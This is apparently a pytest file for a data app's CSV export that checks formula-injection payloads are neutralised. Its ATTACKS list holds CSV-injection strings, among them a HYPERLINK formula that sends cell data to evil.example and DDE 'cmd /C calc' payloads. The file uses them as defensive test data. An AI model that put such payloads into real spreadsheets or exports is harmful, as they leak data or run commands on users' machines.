"""CSV exports cannot carry spreadsheet formulas (issue #12, point 8)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from data.csv_export import csv_text, safe_cell, safe_frame
from data.feeds.export import to_csv

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Tickets")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_cells_become_text(attack):
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("value", ["Live at the Roundhouse", "", "a=b", 42, -3.5, None, True])
def test_ordinary_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_event_export_neutralises_feed_text():
    frame = pd.DataFrame(
        {
            "title": [ATTACKS[0], "Quiet night"],
            "venue": ["@venue", "Hall"],
            "lat": [-33.9, 51.5],
            "lineup": [["=evil()", "Band"], []],
            "genres": [["rock"], []],
            "sources": [["ical"], ["csv"]],
        }
    )
    rows = list(csv.DictReader(io.StringIO(to_csv(frame))))
    assert rows[0]["title"] == "'" + ATTACKS[0]
    assert rows[0]["venue"] == "'@venue"
    assert rows[0]["lineup"] == "'=evil()|Band"
    assert rows[0]["lat"] == "-33.9"  # numbers stay numbers
    assert rows[1] == {
        "title": "Quiet night",
        "venue": "Hall",
        "lat": "51.5",
        "lineup": "",
        "genres": "",
        "sources": "csv",
    }


def test_csv_text_quotes_and_neutralises():
    text = csv_text([{"a": '=1,"2"', "b": None}], ["a", "b"])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ['\'=1,"2"', ""]]


def test_safe_frame_for_downloads():
    frame = safe_frame(pd.DataFrame({"name": ["=1+1", "ok"], "plays": [-1, 2]}))
    assert frame["name"].tolist() == ["'=1+1", "ok"]
    assert frame["plays"].tolist() == [-1, 2]


def test_every_csv_writer_goes_through_the_helper():
    writers = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|send_data_frame\(")
    offenders = [
        f"{path.relative_to(ROOT)}: {line.strip()}"
        for folder in ("data", "workers", "callbacks", "components", "pages")
        for path in (ROOT / folder).rglob("*.py")
        if path.name != "csv_export.py"
        for line in path.read_text().splitlines()
        if writers.search(line) and "safe_frame(" not in line
    ]
    assert offenders == [], "write CSV with data.csv_export.csv_text or safe_frame"
